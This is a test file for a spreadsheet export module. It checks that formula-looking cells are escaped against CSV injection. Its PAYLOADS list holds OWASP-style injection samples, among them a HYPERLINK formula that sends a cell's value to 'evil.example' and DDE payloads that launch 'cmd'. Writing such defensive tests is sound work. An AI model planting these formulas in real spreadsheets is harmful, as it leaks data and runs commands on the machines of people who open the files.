import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLines, guardCell, toCsv, toXlsx } from './sheet-writer.js';
import { readSheet } from './tabular.js';

/** The formula payloads of the OWASP CSV-injection page, and one per trigger character. */
const PAYLOADS = [
  '=1+2',
  '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
];

describe('guardCell', () => {
  it('puts an apostrophe before text a spreadsheet would run as a formula', () => {
    for (const p of PAYLOADS) expect(guardCell(p)).toBe(`'${p}`);
  });

  it('leaves other text, empty cells and real numbers as they are', () => {
    expect(guardCell('Kéran « Bas »')).toBe('Kéran « Bas »');
    expect(guardCell('a=1')).toBe('a=1');
    expect(guardCell('')).toBe('');
    expect(guardCell(null)).toBe('');
    expect(guardCell(-0.5)).toBe('-0.5');
    expect(guardCell(-1200)).toBe('-1200');
  });
});

describe('CSV writers', () => {
  it('write guarded cells that a CSV reader gets back, apostrophe and all', () => {
    const rows = parse(csvLines([PAYLOADS, [-3, 'ok', null]]), { relax_column_count: true });
    expect(rows).toEqual([PAYLOADS.map((p) => `'${p}`), ['-3', 'ok', '']]);
  });

  it('write exactly what csv-stringify wrote, on arbitrary cells (quotes, commas, line breaks, formulas)', () => {
    const cell = fc.oneof(
      fc.string({ unit: fc.constantFrom('a', 'é', ',', '"', '\n', '\r', ' ', '=', '-', '@', '\t', '+') }),
      fc.string(),
      fc.double({ noNaN: true }),
      fc.integer(),
      fc.constant(null),
    );
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { maxLength: 5 }), (rows) => {
        expect(csvLines(rows)).toBe(stringify(rows.map((r) => r.map(guardCell))));
      }),
      { numRuns: 500 },
    );
  });

  it('re-import as typed: readSheet takes the guard off', async () => {
    const file = toCsv(
      ['Nom', 'Longitude'],
      [
        ['=1+2', -0.5],
        ['@x', 1],
      ],
    );
    const sheet = await readSheet(file, 'csv');
    expect(sheet.rows.map((r) => r.cells)).toEqual([
      ['=1+2', '-0.5'],
      ['@x', '1'],
    ]);
  });
});

describe('XLSX writer', () => {
  it('stores formula-looking text as text, never as a formula, and numbers as numbers', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      (await toXlsx('T', ['a', 'b'], [[PAYLOADS[1]!, -0.5]])) as unknown as ArrayBuffer,
    );
    const cell = workbook.worksheets[0]!.getCell('A2');
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(PAYLOADS[1]);
    expect(workbook.worksheets[0]!.getCell('B2').value).toBe(-0.5);
  });
});
